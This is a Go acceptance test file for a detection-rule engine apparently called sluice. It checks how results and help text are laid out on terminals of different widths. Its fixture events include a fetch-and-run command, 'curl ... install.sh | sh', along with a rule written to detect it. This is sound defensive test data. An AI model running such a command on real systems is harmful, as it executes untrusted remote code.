//go:build linux

package acceptance

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sluicehq/sluice/internal/terminaltest"
)

// onTerminal runs a command whose stdout is a terminal of so many columns, and returns
// what that shows.
func onTerminal(t *testing.T, columns uint16, stdin string, args ...string) string {
	t.Helper()
	cmd := command(t, args...)
	cmd.Env = append(os.Environ(), "NO_COLOR=1")
	return showing(t, columns, cmd, stdin)
}

// showing runs a command whose stdout is a terminal of so many columns, and returns what
// that shows.
func showing(t *testing.T, columns uint16, cmd *exec.Cmd, stdin string) string {
	t.Helper()
	tty, written := terminaltest.Open(t, int(columns))
	var errs bytes.Buffer
	cmd.Stdin, cmd.Stdout, cmd.Stderr = strings.NewReader(stdin), tty, &errs
	err := cmd.Run()
	got := written()
	if err != nil {
		t.Fatalf("%v: %v\n%s%s", cmd.Args, err, got, errs.String())
	}
	return got
}

// Rows on pages are those of a terminal that is wide enough for them.
func TestPagesShowRowsAsTheyAre(t *testing.T) {
	shown := 0
	for _, page := range pages(t) {
		all := fences(t, page)
		for i, f := range all {
			if f.info != "rows" || i == 0 || all[i-1].info != "sh" {
				continue
			}
			shown++
			cmd := exec.Command("sh", "-e", "-c", all[i-1].text)
			cmd.Dir = newReader(t).dir
			cmd.Env = append(clean(cmd.Dir), "NO_COLOR=1")
			if got := showing(t, 120, cmd, ""); got != f.text {
				t.Errorf("%s: got\n%s", f, got)
			}
		}
	}
	if shown == 0 {
		t.Error("no page shows rows")
	}
}

// On a terminal results are rows, each of them one line; programs get what they always
// got.
func TestResultsOnATerminalAreRows(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "rules/a.yml", "title: Downloads Piped Into a Shell\nlevel: high\ndetection: {s: {CommandLine|contains: curl}, condition: s}\n")
	write(t, dir, "rules/b.yml", "title: Root\nlevel: low\ndetection: {words: ['sudo', 'for root'], condition: words}\n")
	events := `{"CommandLine":"curl -s https://203.0.113.9/install.sh | sh","@timestamp":"2026-03-10T04:04:05+01:00","host":{"name":"web-1"}}` + "\n" +
		"<86>Mar 10 2026 03:04:05 gw1 sshd[991]: Accepted publickey for root\n" + "plain words for root\n"
	eval := []string{"engine", "eval", "-r", filepath.Join(dir, "rules"), "--input-format", "auto"}
	lines := sluice(t, events, eval...).stdout
	if strings.Count(lines, "\n") != 3 || !strings.HasPrefix(lines, `{"rule_title":`) {
		t.Errorf("piped: got\n%s", lines)
	}
	wide := `TIME                  HOST   LEVEL  RULE                          TYPE       DETAIL
2026-03-10T03:04:05Z  web-1  high   Downloads Piped Into a Shell  detection  CommandLine=curl -s https://203.0.113.9/install.sh | sh
2026-03-10T03:04:05Z  gw1    low    Root                          detection  keyword=for root in Accepted publickey for root
-                     -      low    Root                          detection  keyword=for root in plain words for root
`
	narrow := `TIME                  HOST   LEVEL  RULE
2026-03-10T03:04:05Z  web-1  high   Downloads Piped Into a Shell
2026-03-10T03:04:05Z  gw1    low    Root
-                     -      low    Root
`
	for _, tc := range []struct {
		name    string
		columns uint16
		args    []string
		want    string // what it begins with
	}{
		{"eighty columns", 80, nil, narrow},
		{"a wide terminal", 132, nil, wide},
		{"a terminal that does not tell its width", 0, nil, narrow},
		{"a table is rows, too", 132, []string{"--output-format", "table"}, wide},
		{"--pretty", 80, []string{"--pretty"}, "{\n  \"rule_title\": \"Downloads Piped Into a Shell\",\n"},
		{"lines", 80, []string{"--output-format", "ndjson"}, lines},
		{"comma-separated values", 80, []string{"--output-format", "csv"}, "LEVEL,RULE,TYPE,DETAIL\nhigh,Downloads Piped Into a Shell,detection,CommandLine=curl -s https://203.0.113.9/install.sh | sh\n"},
	} {
		if got := onTerminal(t, tc.columns, events, append(eval, tc.args...)...); !strings.HasPrefix(got, tc.want) {
			t.Errorf("%s: got\n%s\nwant\n%s", tc.name, got, tc.want)
		}
	}
}

func TestHelpOnATerminalFits(t *testing.T) {
	for _, columns := range []uint16{50, 80, 200} {
		got := onTerminal(t, columns, "", "engine", "eval", "--help")
		_, flags, _ := strings.Cut(got, "Flags:\n")
		longest := 0
		for line := range strings.Lines(flags) {
			longest = max(longest, len(strings.TrimRight(line, "\n")))
		}
		if most := min(int(columns), 110); longest > most || longest < most-15 {
			t.Errorf("%d columns: the longest line has %d:\n%s", columns, longest, got)
		}
	}
}
